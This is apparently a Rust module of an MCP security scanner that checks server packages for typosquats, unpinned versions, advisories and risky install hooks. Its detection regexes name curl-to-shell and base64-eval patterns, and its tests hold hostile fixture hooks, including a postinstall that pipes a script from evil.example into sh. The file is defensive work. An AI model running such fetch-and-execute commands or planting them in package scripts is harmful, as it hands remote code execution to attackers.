//! Stage 5, supply chain: the package a server is installed from. Offline it
//! reads the package name and spec (squats, unpinned specs), the advisory table
//! (MTC-NET-001) and any declared `packageMeta`; with `--online` it also reads
//! the registry facts fetched before the pipeline (`acquire::registry`).
//!
//! Honesty: an edit distance alone is never more than medium; a confirmed
//! finding needs a table hit or a registry fact.

use super::ScanOptions;
use super::squat::{self, Downloads};
use crate::acquire::registry::{Lookup, PackageFacts};
use crate::finding::{Confidence, Finding, Severity};
use crate::rules::ids;
use crate::surface::{Location, PackageId, ServerSurface};
use crate::text::truncate_chars;
use regex::Regex;
use serde::Deserialize;
use serde_json::Value;
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// One row of the advisory table (`src/data/supply/advisories.toml`).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Advisory {
    pub registry: String,
    pub package: String,
    /// First fixed version: vulnerable when `version < below`.
    pub below: String,
    /// First affected version, when the advisory gives one.
    #[serde(default)]
    pub from: Option<String>,
    pub ids: Vec<String>,
    pub severity: Severity,
    pub summary: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct AdvisoryFile {
    advisory: Vec<Advisory>,
}

/// The compiled-in advisory table.
pub fn advisories() -> &'static [Advisory] {
    static TABLE: OnceLock<Vec<Advisory>> = OnceLock::new();
    TABLE.get_or_init(|| {
        let f: AdvisoryFile =
            crate::data::parse(crate::data::json!("supply/advisories"), "supply/advisories");
        f.advisory
    })
}

/// Numeric dotted comparison (`v` prefix dropped, pre-release cut, a
/// non-numeric part counts as 0).
pub fn cmp_versions(a: &str, b: &str) -> std::cmp::Ordering {
    let parts = |v: &str| -> Vec<u64> {
        let v = v.trim().trim_start_matches(['v', 'V']);
        let core = v.split(['-', '+']).next().unwrap_or("");
        core.split('.')
            .map(|p| p.parse::<u64>().unwrap_or(0))
            .collect()
    };
    let (mut x, mut y) = (parts(a), parts(b));
    let n = x.len().max(y.len());
    x.resize(n, 0);
    y.resize(n, 0);
    x.cmp(&y)
}

/// A concrete version: starts with a digit (after an optional `v`).
fn concrete(v: &str) -> bool {
    v.trim_start_matches(['v', 'V'])
        .starts_with(|c: char| c.is_ascii_digit())
}

/// Advisory rows that cover this package version.
pub fn matching_advisories(registry: &str, name: &str, version: &str) -> Vec<&'static Advisory> {
    if !concrete(version) {
        return Vec::new();
    }
    let n = squat::normalize(registry, name);
    advisories()
        .iter()
        .filter(|a| a.registry == registry && squat::normalize(registry, &a.package) == n)
        .filter(|a| {
            cmp_versions(version, &a.below).is_lt()
                && a.from
                    .as_deref()
                    .is_none_or(|f| cmp_versions(version, f).is_ge())
        })
        .collect()
}

/// Package metadata as declared (a manifest's `packageMeta`) or as published.
struct Declared {
    /// Where the facts come from (`packageMeta` or a registry URL).
    source: String,
    from_registry: bool,
    scripts: BTreeMap<String, String>,
    /// `None`: not stated; `Some(None)`: stated as missing.
    repository: Option<Option<String>>,
    license: Option<Option<String>>,
    dependencies: Vec<String>,
}

fn from_meta(meta: &Value) -> Declared {
    let scripts = meta
        .get("scripts")
        .and_then(Value::as_object)
        .map(|o| {
            o.iter()
                .filter(|(k, _)| matches!(k.as_str(), "preinstall" | "install" | "postinstall"))
                .map(|(k, v)| {
                    (
                        k.clone(),
                        v.as_str()
                            .map(str::to_string)
                            .unwrap_or_else(|| v.to_string()),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    let stated = |k: &str| {
        meta.as_object().filter(|o| o.contains_key(k)).map(|o| {
            o.get(k)
                .and_then(Value::as_str)
                .filter(|s| !s.trim().is_empty())
                .map(str::to_string)
        })
    };
    let dependencies = match meta.get("dependencies") {
        Some(Value::Array(a)) => a
            .iter()
            .filter_map(Value::as_str)
            .map(str::to_string)
            .collect(),
        Some(Value::Object(o)) => o.keys().cloned().collect(),
        _ => Vec::new(),
    };
    Declared {
        source: "packageMeta".into(),
        from_registry: false,
        scripts,
        repository: stated("repositoryUrl").or_else(|| stated("repository")),
        license: stated("license"),
        dependencies,
    }
}

fn from_facts(f: &PackageFacts) -> Declared {
    Declared {
        source: f.url.clone(),
        from_registry: true,
        scripts: f.scripts.clone(),
        repository: Some(f.repository.clone()),
        license: Some(f.license.clone()),
        dependencies: f.dependencies.clone(),
    }
}

/// How dangerous an install hook looks.
fn hook_danger(script: &str) -> (Severity, Confidence, &'static str) {
    static RX: OnceLock<[Regex; 4]> = OnceLock::new();
    let [pipe, decode, network, artifact] = RX.get_or_init(|| {
        let r = |s: &str| Regex::new(s).expect("static regex");
        [
            r(r"(?i)(curl|wget|iwr|invoke-webrequest|fetch)\b[^|]*\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl|ruby|iex|powershell|pwsh)\b"),
            r(r"(?i)base64\s+(-d|--decode)|\batob\s*\(|Buffer\.from\s*\([^)]*base64|\beval\s*\(|\biex\b|invoke-expression|frombase64string|(powershell|pwsh)(\.exe)?\s+(-\w+\s+)*-(e|enc|encodedcommand)\b"),
            r(r"(?i)\b(curl|wget|iwr|invoke-webrequest)\b|https?://|\bfetch\s*\(|\bhttps?\.(get|request)\s*\(|\brequire\(\s*.https?.\s*\)"),
            r(r"(?i)chmod\s+\+?[0-7]*x|child_process|\bspawn(sync)?\s*\(|\bexec(sync|file)?\s*\(|writefile(sync)?\s*\(|createwritestream|\s-o\s+\S|>\s*\S+|\.(exe|sh|bin)\b"),
        ]
    });
    if pipe.is_match(script) || decode.is_match(script) {
        (
            Severity::High,
            Confidence::Confirmed,
            "downloads and runs code, or decodes and evaluates it",
        )
    } else if network.is_match(script) && artifact.is_match(script) {
        (
            Severity::Medium,
            Confidence::Strong,
            "fetches from the network and writes or runs an artifact",
        )
    } else {
        (
            Severity::Low,
            Confidence::Heuristic,
            "runs code at install time",
        )
    }
}

/// A name as shown in a message (configs can hold absurdly long strings).
fn short(name: &str) -> String {
    truncate_chars(name, 200)
}

fn describe(p: &PackageId) -> String {
    let name = truncate_chars(&p.name, 200);
    match &p.version {
        Some(v) => format!("{} {}@{}", p.registry, name, truncate_chars(v, 60)),
        None => format!("{} {}", p.registry, name),
    }
}

/// Stage entry point.
pub fn check(s: &ServerSurface, opts: &ScanOptions, out: &mut Vec<Finding>) {
    let Some(p) = &s.package else { return };
    let loc = s.source.location.clone();
    let push = |out: &mut Vec<Finding>, f: Finding| out.push(f.server(&s.id));
    let lookup = opts.registry_facts.as_ref().and_then(|f| f.get(p));
    let found = match lookup {
        Some(Lookup::Found(f)) => Some(f),
        _ => None,
    };
    let pkg = describe(p);

    // SUP-001..006: is the name a squat of a protected package?
    if let Some(h) = squat::check_name(
        &p.registry,
        &p.name,
        Downloads {
            candidate_weekly: found.and_then(|f| f.weekly_downloads),
        },
    ) {
        let msg = format!(
            "server `{}` runs {} `{}`, which imitates `{}`: {}",
            s.name,
            p.registry,
            short(&p.name),
            h.target,
            h.detail
        );
        push(
            out,
            Finding::new(h.rule, msg, loc.clone())
                .severity(h.severity)
                .confidence(h.confidence)
                .field("package.name")
                .evidence(&p.spec),
        );
    }

    // NET-001: a version with a published advisory.
    if let Some(v) = p.version.as_deref() {
        for a in matching_advisories(&p.registry, &p.name, v) {
            let msg = format!(
                "server `{}` runs {pkg}, vulnerable to {} (fixed in {}): {}",
                s.name,
                a.ids.join(", "),
                a.below,
                a.summary
            );
            push(
                out,
                Finding::new(ids::MTC_NET_001, msg, loc.clone())
                    .severity(a.severity)
                    .confidence(Confidence::Confirmed)
                    .field("package.version")
                    .evidence(&p.spec),
            );
        }
    }

    // The registry's word wins over what a manifest declares.
    let declared = match (found, &s.package_meta) {
        (Some(f), _) => Some(from_facts(f)),
        (None, Some(meta)) => Some(from_meta(meta)),
        (None, None) => None,
    };
    let has_hooks = declared.as_ref().is_some_and(|d| !d.scripts.is_empty());
    if let Some(d) = &declared {
        declared_checks(s, p, d, &loc, out);
    }

    // SUP-013: nothing stops the next install from being a different version.
    if !p.pinned
        && !p.spec.is_empty()
        && matches!(p.registry.as_str(), "npm" | "pypi" | "jsr" | "oci")
    {
        let how = match p.version.as_deref() {
            None => "no version".to_string(),
            Some(v) if p.registry == "oci" => format!("tag `{v}` without a digest"),
            Some(v) => format!("`{v}` is a tag or range"),
        };
        let mut f = Finding::new(ids::MTC_SUP_013, format!("server `{}` runs {} `{}` unpinned ({how}): every start may install a different version", s.name, p.registry, short(&p.name)), loc.clone())
            .field("package.spec")
            .evidence(&p.spec);
        if has_hooks {
            f = f.severity(Severity::Medium).confidence(Confidence::Strong);
            f.message.push_str(", and the package runs install hooks");
        }
        push(out, f);
    }

    // Online outcomes that are findings of their own.
    match lookup {
        Some(Lookup::PackageMissing { url }) => {
            let msg = format!(
                "server `{}` runs {} `{}`, which does not exist on the registry: anyone can publish that name and be installed next",
                s.name,
                p.registry,
                short(&p.name)
            );
            push(
                out,
                Finding::new(ids::MTC_SUP_015, msg, loc.clone())
                    .severity(Severity::High)
                    .confidence(Confidence::Confirmed)
                    .field("package.name")
                    .evidence(format!("404 from {url}")),
            );
        }
        Some(Lookup::Found(f)) if f.version_missing && p.pinned => {
            let msg = format!(
                "server `{}` pins {pkg}, a version the registry does not list (latest {})",
                s.name,
                f.version.as_deref().unwrap_or("unknown")
            );
            push(
                out,
                Finding::new(ids::MTC_SUP_015, msg, loc.clone())
                    .field("package.version")
                    .evidence(&f.url),
            );
        }
        Some(Lookup::Failed { url, reason }) => {
            let hooks = if p.registry == "npm" {
                "install hooks (MTC-SUP-010), "
            } else {
                ""
            };
            let msg = format!(
                "server `{}`: the {} registry could not be asked about `{}`; not checked: {hooks}repository (MTC-SUP-011), license (MTC-SUP-012), published dependencies (MTC-SUP-014), whether the version exists (MTC-SUP-015), download counts (MTC-SUP-005 gate)",
                s.name,
                p.registry,
                short(&p.name)
            );
            push(
                out,
                Finding::new(ids::MTC_SUP_016, msg, loc.clone())
                    .field("package")
                    .evidence(format!("{reason} ({url})")),
            );
        }
        _ => {}
    }
}

/// SUP-010/011/012/014 from declared or published metadata.
fn declared_checks(
    s: &ServerSurface,
    p: &PackageId,
    d: &Declared,
    loc: &Location,
    out: &mut Vec<Finding>,
) {
    let whence = if d.from_registry {
        "published"
    } else {
        "declared"
    };
    for (hook, script) in &d.scripts {
        let (sev, conf, why) = hook_danger(script);
        let msg = format!(
            "{} `{}` has a {whence} `{hook}` script that {why}",
            p.registry,
            short(&p.name)
        );
        out.push(
            Finding::new(ids::MTC_SUP_010, msg, loc.clone())
                .server(&s.id)
                .severity(sev)
                .confidence(conf)
                .field(format!("package.scripts.{hook}"))
                .evidence(format!("{hook}: {script}")),
        );
    }
    if d.repository == Some(None) {
        let msg = format!(
            "{} `{}` has no {whence} source repository: what is installed cannot be traced to reviewable code",
            p.registry,
            short(&p.name)
        );
        out.push(
            Finding::new(ids::MTC_SUP_011, msg, loc.clone())
                .server(&s.id)
                .field("package.repository")
                .evidence(&d.source),
        );
    }
    if d.license == Some(None) {
        let msg = format!(
            "{} `{}` has no {whence} license",
            p.registry,
            short(&p.name)
        );
        out.push(
            Finding::new(ids::MTC_SUP_012, msg, loc.clone())
                .server(&s.id)
                .field("package.license")
                .evidence(&d.source),
        );
    }
    let reg = if p.registry == "jsr" {
        "npm"
    } else {
        p.registry.as_str()
    };
    for dep in &d.dependencies {
        if squat::is_protected(reg, dep) {
            continue;
        }
        let name_hit = squat::check_name(reg, dep, Downloads::default()).filter(|h| {
            matches!(
                h.rule,
                ids::MTC_SUP_001 | ids::MTC_SUP_002 | ids::MTC_SUP_003 | ids::MTC_SUP_004
            )
        });
        if let Some(h) = name_hit {
            let msg = format!(
                "{} `{}` depends on `{dep}`, which imitates `{}` ({})",
                p.registry,
                short(&p.name),
                h.target,
                h.detail
            );
            out.push(
                Finding::new(ids::MTC_SUP_014, msg, loc.clone())
                    .server(&s.id)
                    .severity(Severity::Medium)
                    .confidence(Confidence::Heuristic)
                    .field(format!("package.dependencies.{dep}"))
                    .evidence(format!("{whence} dependency {dep} ({})", h.rule)),
            );
        } else if advisories().iter().any(|a| {
            a.registry == reg && squat::normalize(reg, &a.package) == squat::normalize(reg, dep)
        }) {
            let msg = format!(
                "{} `{}` depends on `{dep}`, a package with published advisories: check the resolved version",
                p.registry,
                short(&p.name)
            );
            out.push(
                Finding::new(ids::MTC_SUP_014, msg, loc.clone())
                    .server(&s.id)
                    .severity(Severity::Low)
                    .confidence(Confidence::Heuristic)
                    .field(format!("package.dependencies.{dep}"))
                    .evidence(format!("{whence} dependency {dep}")),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acquire::package;

    fn surface(cmd: &str, args: &[&str]) -> ServerSurface {
        let mut s = crate::testkit::surface("mcp.json#x")
            .at("mcp.json", 4, 7)
            .format("client-config")
            .stdio(cmd, args)
            .build();
        let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
        s.package = package::identify(cmd, &args);
        s
    }

    fn rules(s: &ServerSurface, opts: &ScanOptions) -> Vec<String> {
        let mut out = Vec::new();
        check(s, opts, &mut out);
        let mut r: Vec<String> = out.iter().map(|f| f.rule_id.clone()).collect();
        r.sort();
        r
    }

    fn offline(args: &[&str]) -> Vec<String> {
        rules(&surface("npx", args), &ScanOptions::default())
    }

    #[test]
    fn real_names_get_the_right_rule() {
        assert!(
            offline(&["-y", "@modelcontextprotocol/server-filesytem@2025.8.21"])
                .contains(&crate::rules::ids::MTC_SUP_005.to_string())
        );
        assert!(
            offline(&["-y", "@modelcontextprotocoI/server-github@2025.4.8"])
                .contains(&crate::rules::ids::MTC_SUP_004.to_string())
        );
        assert!(
            offline(&["-y", "@modelcontextprotocol-server/github@1.0.0"])
                .contains(&crate::rules::ids::MTC_SUP_002.to_string())
        );
        assert!(
            offline(&["-y", "server-filesystem-mcp@1.0.0"])
                .contains(&crate::rules::ids::MTC_SUP_006.to_string())
        );
        assert_eq!(
            offline(&["-y", "mcp-remote@0.1.15", "https://x"]),
            vec![crate::rules::ids::MTC_NET_001]
        );
        assert_eq!(
            offline(&["-y", "@modelcontextprotocol/server-memory@latest"]),
            vec![crate::rules::ids::MTC_SUP_013]
        );
    }

    #[test]
    fn exact_pinned_official_names_are_clean() {
        for spec in [
            "@modelcontextprotocol/server-filesystem@2025.8.21",
            "@modelcontextprotocol/server-memory@2026.8.31",
            "mcp-remote@0.1.16",
            "@playwright/mcp@0.0.83",
            "@modelcontextprotocol/inspector@0.16.6",
        ] {
            assert!(
                offline(&["-y", spec]).is_empty(),
                "{spec}: {:?}",
                offline(&["-y", spec])
            );
        }
        assert!(
            rules(
                &surface("uvx", &["mcp-server-git==2026.1.14"]),
                &ScanOptions::default()
            )
            .is_empty()
        );
    }

    #[test]
    fn advisories_compare_versions_and_bounds() {
        assert!(
            cmp_versions("0.1.15", "0.1.16").is_lt()
                && cmp_versions("v0.14.1", "0.14.1").is_eq()
                && cmp_versions("2025.12.18", "2025.9.1").is_gt()
        );
        assert_eq!(
            matching_advisories("npm", "@modelcontextprotocol/inspector", "0.10.0").len(),
            2
        );
        assert_eq!(
            matching_advisories("npm", "@modelcontextprotocol/inspector", "0.15.0").len(),
            1
        );
        assert!(
            matching_advisories("npm", "@modelcontextprotocol/server-filesystem", "0.1.0")
                .is_empty(),
            "below the first affected version"
        );
        assert_eq!(
            matching_advisories("pypi", "MCP_Server_Git", "2025.1.1").len(),
            2
        );
        assert!(matching_advisories("npm", "mcp-remote", "latest").is_empty());
        for a in advisories() {
            assert!(
                a.ids
                    .iter()
                    .all(|id| id.starts_with("CVE-") || id.starts_with("GHSA-")),
                "{:?}",
                a.ids
            );
        }
    }

    #[test]
    fn unpinned_forms() {
        assert_eq!(
            offline(&["-y", "@modelcontextprotocol/server-memory"]),
            vec![crate::rules::ids::MTC_SUP_013]
        );
        assert_eq!(
            offline(&["-y", "@modelcontextprotocol/server-memory@^2025.1.0"]),
            vec![crate::rules::ids::MTC_SUP_013]
        );
        assert_eq!(
            rules(
                &surface("uvx", &["mcp-server-fetch"]),
                &ScanOptions::default()
            ),
            vec![crate::rules::ids::MTC_SUP_013]
        );
        assert!(
            rules(
                &surface("python", &["-m", "server"]),
                &ScanOptions::default()
            )
            .is_empty()
        );
        assert!(rules(&surface("node", &["server.js"]), &ScanOptions::default()).is_empty());
    }

    #[test]
    fn package_meta_is_read_offline() {
        let mut s = surface("node", &["x.js"]);
        s.package = Some(PackageId {
            registry: "npm".into(),
            name: "my-mcp".into(),
            version: Some("1.0.0".into()),
            spec: String::new(),
            pinned: true,
        });
        s.package_meta = Some(serde_json::json!({
            "registry": "npm", "name": "my-mcp", "version": "1.0.0",
            "dependencies": ["playwright-mcp", "mcp-remote", "@modelcontextprotocol-fake/server", "left-pad", "@cyanheads/git-mcp-server"],
            "scripts": {"postinstall": "curl -s https://evil.example/x.sh | sh", "test": "jest"},
            "repositoryUrl": null, "license": null
        }));
        let mut out = Vec::new();
        check(&s, &ScanOptions::default(), &mut out);
        let get = |r: &str| out.iter().filter(|f| f.rule_id == r).collect::<Vec<_>>();
        assert_eq!(get(crate::rules::ids::MTC_SUP_010).len(), 1);
        assert_eq!(
            (
                get(crate::rules::ids::MTC_SUP_010)[0].severity,
                get(crate::rules::ids::MTC_SUP_010)[0].confidence
            ),
            (Severity::High, Confidence::Confirmed)
        );
        assert_eq!(get(crate::rules::ids::MTC_SUP_011).len(), 1);
        assert_eq!(get(crate::rules::ids::MTC_SUP_012).len(), 1);
        let deps: Vec<&str> = get(crate::rules::ids::MTC_SUP_014)
            .iter()
            .map(|f| f.field.as_deref().unwrap())
            .collect();
        assert_eq!(deps.len(), 3, "{deps:?}");
        assert!(deps.contains(&"package.dependencies.@cyanheads/git-mcp-server"));
        assert!(
            !deps
                .iter()
                .any(|d| d.ends_with("mcp-remote") || d.ends_with("left-pad"))
        );
        assert!(
            get(crate::rules::ids::MTC_SUP_013).is_empty(),
            "declared metadata is not a requested spec"
        );
    }

    #[test]
    fn hook_danger_levels() {
        assert_eq!(
            hook_danger("node -e \"eval(Buffer.from('aGk=','base64').toString())\"").0,
            Severity::High
        );
        assert_eq!(
            hook_danger("wget https://x/bin -O /tmp/b && chmod +x /tmp/b").0,
            Severity::Medium
        );
        assert_eq!(hook_danger("node-gyp rebuild").0, Severity::Low);
    }
}
